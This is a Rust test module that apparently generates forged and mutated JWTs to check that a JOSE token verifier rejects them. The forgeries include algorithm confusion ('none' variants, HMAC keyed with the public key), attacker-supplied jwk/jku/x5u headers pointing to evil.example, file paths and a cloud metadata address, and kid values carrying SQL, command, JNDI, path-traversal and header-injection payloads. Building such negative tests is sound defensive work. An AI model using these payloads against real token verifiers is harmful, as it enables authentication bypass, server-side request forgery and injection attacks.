//! Changes of what the header says: algorithms, keys, types.

use aws_lc_rs::hmac;
use claviger_credential::jose::Algorithm;
use serde_json::{Value, json};

use super::{Mutant, Token, World, encode};

const OTHER_ALGORITHMS: [&str; 40] = [
    "HS256",
    "HS384",
    "HS512",
    "hs256",
    "RS256",
    "RS384",
    "RS512",
    "rs256",
    "PS256",
    "PS384",
    "PS512",
    "ES256",
    "ES256K",
    "ES384",
    "ES512",
    "es256",
    "ES256 ",
    " ES256",
    "ES256\0",
    "ЕS256",
    "EdDSA",
    "EDDSA",
    "eddsa",
    "Ed25519",
    "Ed448",
    "ESP256",
    "dir",
    "RSA1_5",
    "RSA-OAEP",
    "A256KW",
    "A256GCM",
    "PBES2-HS256+A128KW",
    "ML-DSA-44",
    "HS256/64",
    "HMAC-SHA256",
    "SHA256",
    "",
    " ",
    "null",
    "*",
];

pub fn mutants(world: &World, token: &Token) -> Vec<Mutant> {
    let mut mutants = algorithms(world, token);
    mutants.extend(keys(world, token));
    let signer = world.signer(token);

    let mut add = |kind, text: String| mutants.push((kind, text));
    for kid in kids(world, token) {
        let header = changed(token, &[("kid", kid)]);
        add("kid tricks", token.with(Some(header.as_bytes()), None, None));
        for attacker in &world.attackers {
            let header = header.replacen(signer.algorithm().as_str(), attacker.algorithm().as_str(), 1);
            add("kid tricks", attacker.token(&header, &token.payload));
        }
    }
    for typ in ["JWT", "jwt", "AT+JWT", "application/at+jwt", "dpop+jwt", "client-authentication+jwt", "logout+jwt", "id+jwt", "JOSE", ""] {
        let header = changed(token, &[("typ", json!(typ))]);
        add("typ swapped", token.with(Some(header.as_bytes()), None, None));
    }
    for typ in [json!(null), json!(1), json!(["at+jwt"]), json!({ "at+jwt": true })] {
        let header = changed(token, &[("typ", typ)]);
        add("typ swapped", token.with(Some(header.as_bytes()), None, None));
        add("header or payload rightly signed, but refused", signer.token(&header, &token.payload));
    }
    for (name, value) in [("cty", json!("JWT")), ("x5t", json!("AA")), ("iss", json!("x")), ("nonce", json!("x")), ("", json!(1))] {
        add("header changed, old signature", token.with(Some(changed(token, &[(name, value)]).as_bytes()), None, None));
    }
    for spaced in [token.header.replace(':', ": "), format!(" {}", token.header), format!("{}\n", token.header)] {
        add("header changed, old signature", token.with(Some(spaced.as_bytes()), None, None));
    }

    // What even the right key must not make good.
    let inner = &token.header[1..token.header.len() - 1];
    let alg = signer.algorithm().as_str();
    let mut refused: Vec<String> = ["", "null", "[]", "1", "\"\"", "{", "{}", "{\"alg\"}", "\u{feff}{}"].map(String::from).to_vec();
    refused.extend([
        format!("[{}]", token.header),
        format!("{}{}", token.header, token.header),
        format!("{}\0", token.header),
        format!("\u{feff}{}", token.header),
        format!("{{{inner},}}"),
        format!("{{{inner},\"alg\":\"{alg}\"}}"),
        format!("{{{inner},\"alg\":\"none\"}}"),
        format!("{{\"alg\":\"none\",{inner}}}"),
        format!("{{\"\\u0061lg\":\"HS256\",{inner}}}"),
        format!("{{{inner},\"kid\":\"other\"}}"),
        format!("{{{inner},\"typ\":\"JWT\"}}"),
        format!("{{{inner},\"x\":{{\"a\":1,\"a\":2}}}}"),
        format!("{{{inner},\"x\":[[[{{\"a\":1,\"b\":{{}},\"a\":2}}]]]}}"),
        format!("{{{inner},\"x\":1e999}}"),
        format!("{{{inner},\"x\":{}}}", "9".repeat(400)),
        format!("{{{inner},\"x\":\"\\ud800\"}}"),
        format!("{{{inner},\"x\":NaN}}"),
        format!("{{{inner} /* comment */}}"),
    ]);
    refused.extend([130, 1_000, 5_000].map(|depth| format!("{{{inner},\"x\":{}{}}}", "[".repeat(depth), "]".repeat(depth))));
    refused.extend([130, 1_000, 2_000].map(|depth| format!("{{{inner},\"x\":{}1{}}}", "{\"x\":".repeat(depth), "}".repeat(depth))));
    for (name, value) in [
        ("crit", json!(["exp"])),
        ("crit", json!(["b64"])),
        ("crit", json!([])),
        ("crit", json!(null)),
        ("b64", json!(false)),
        ("b64", json!(true)),
        ("zip", json!("DEF")),
        ("enc", json!("A128GCM")),
        ("kid", json!("")),
        ("kid", json!(1)),
        ("kid", json!(null)),
        ("kid", json!([signer.jwk().thumbprint()])),
        ("kid", json!("k".repeat(257))),
        ("kid", json!("k".repeat(9_000))),
        ("cty", json!(1)),
        ("alg", json!(null)),
        ("alg", json!([alg])),
        ("alg", json!({ "alg": alg })),
        ("alg", json!(256)),
        ("alg", json!(true)),
    ] {
        refused.push(changed(token, &[(name, value)]));
    }
    for header in refused {
        add("header or payload rightly signed, but refused", signer.token(&header, &token.payload));
        add("header changed, old signature", token.with(Some(header.as_bytes()), None, None));
    }
    mutants
}

fn algorithms(world: &World, token: &Token) -> Vec<Mutant> {
    let mut mutants = Vec::new();
    let mut add = |kind, text: String| mutants.push((kind, text));
    let signer = world.signer(token);
    let nones = (0..16).map(|cases| {
        let letter = |(at, it): (usize, char)| if cases & (1 << at) == 0 { it } else { it.to_ascii_uppercase() };
        "none".chars().enumerate().map(letter).collect::<String>()
    });
    for alg in nones.chain(OTHER_ALGORITHMS.map(String::from)).filter(|alg| alg != signer.algorithm().as_str()) {
        let header = changed(token, &[("alg", json!(alg))]);
        let bare = json!({ "alg": alg }).to_string();
        add("alg changed, old signature", token.with(Some(header.as_bytes()), None, None));
        // The one other name that is taken (RFC 9864), from whoever holds the key.
        if (alg.as_str(), signer.algorithm()) != ("Ed25519", Algorithm::EdDsa) {
            add("alg changed, old signature", signer.token(&header, &token.payload));
        }
        for header in [&header, &bare] {
            let input = format!("{}.{}", encode(header), encode(&token.payload));
            add("alg changed, no signature", format!("{input}."));
            add("alg changed, no signature", input.clone());
            for signature in ["AA", "AAAA", "bm9uZQ", "="] {
                add("alg changed, no signature", format!("{input}.{signature}"));
            }
            for secret in signer.public_encodings() {
                for (algorithm, length) in [(hmac::HMAC_SHA256, 32), (hmac::HMAC_SHA384, 48), (hmac::HMAC_SHA512, 64)] {
                    let tag = hmac::sign(&hmac::Key::new(algorithm, &secret), input.as_bytes());
                    add("alg HS*, keyed with the public key", format!("{input}.{}", encode(&tag.as_ref()[..length])));
                }
            }
        }
        add("alg changed, empty parts", format!("{}..", encode(&bare)));
        add("alg changed, empty parts", format!("{}..{}", encode(&bare), encode(&token.signature)));
        for attacker in &world.attackers {
            add("alg changed, signed by an attacker's key of it", attacker.token(&header, &token.payload));
        }
    }
    // HMAC under the unchanged alg, too.
    for secret in signer.public_encodings() {
        let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, &secret), token.signing_input().as_bytes());
        add("alg HS*, keyed with the public key", format!("{}.{}", token.signing_input(), encode(tag)));
    }
    mutants
}

/// Headers that bring a key, signed by whose it is.
fn keys(world: &World, token: &Token) -> Vec<Mutant> {
    let mut mutants = Vec::new();
    for attacker in world.attackers.iter().chain(&world.signers) {
        let jwk = attacker.jwk();
        let (public, alg) = (jwk.published(), json!(attacker.algorithm().as_str()));
        let certificate = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, &attacker.public_encodings()[1]);
        let own = [
            ("jwk", public.clone()),
            ("jwk", json!({ "keys": [public] })),
            ("jwk", json!(null)),
            ("jwk", json!("https://evil.example/jwk")),
            ("jku", json!("https://evil.example/jwks.json")),
            ("jku", json!("https://as.example@evil.example/jwks.json")),
            ("jku", json!("https://as.example/redirect?to=https://evil.example/jwks.json")),
            ("jku", json!("file:///etc/passwd")),
            ("jku", json!("data:application/json,{}")),
            ("jku", json!("http://169.254.169.254/latest/meta-data")),
            ("jku", json!(["https://evil.example/jwks.json"])),
            ("x5u", json!("https://evil.example/cert.pem")),
            ("x5u", json!(null)),
            ("x5c", json!([certificate])),
            ("x5c", json!(certificate)),
            ("x5c", json!([])),
        ];
        for member in own {
            for kid in [json!(jwk.thumbprint()), json!(world.signer(token).jwk().thumbprint())] {
                let header = changed(token, &[("alg", alg.clone()), ("kid", kid), member.clone()]);
                let kind = if world.attackers.iter().any(|it| std::ptr::eq(it, attacker)) {
                    "attacker's key in the header, attacker's signature"
                } else {
                    "header rightly signed, with its own key"
                };
                mutants.push((kind, attacker.token(&header, &token.payload)));
            }
        }
    }
    mutants
}

fn kids(world: &World, token: &Token) -> Vec<Value> {
    let mut kids: Vec<Value> = [
        "",
        " ",
        ".",
        "/",
        "../../../../../../../dev/null",
        "..\\..\\..\\windows\\win.ini",
        "/proc/self/environ",
        "file:///dev/null",
        "https://evil.example/key",
        "//evil.example/key",
        "' OR '1'='1",
        "' UNION SELECT 'attacker",
        "x'; DROP TABLE signing_keys; --",
        "1 OR 1=1",
        "%",
        "_",
        "*",
        "%00",
        "\0",
        "\n",
        "\r\nSet-Cookie: a=b",
        "$(id)",
        "`id`",
        "| id",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "<script>",
        "__proto__",
        "constructor",
        "null",
        "undefined",
        "\u{202e}",
        "key\u{0}.pem",
    ]
    .map(Value::from)
    .to_vec();
    kids.extend([json!(null), json!(0), json!([]), json!({}), json!(true), json!({ "$ne": null })]);
    kids.extend([255, 256, 257, 4_096, 10_000].map(|length| json!("k".repeat(length))));
    let thumbprint = world.signer(token).jwk().thumbprint();
    kids.extend([json!(thumbprint.to_lowercase()), json!(format!("{thumbprint} ")), json!(format!("./{thumbprint}")), json!([thumbprint])]);
    kids.extend(world.signers.iter().chain(&world.attackers).map(|signer| json!(signer.jwk().thumbprint())).filter(|it| *it != thumbprint));
    kids
}

/// The header with these members in place of what they were.
fn changed(token: &Token, members: &[(&str, Value)]) -> String {
    let mut header: Value = serde_json::from_str(&token.header).unwrap();
    for (name, value) in members {
        header[*name] = value.clone();
    }
    header.to_string()
}
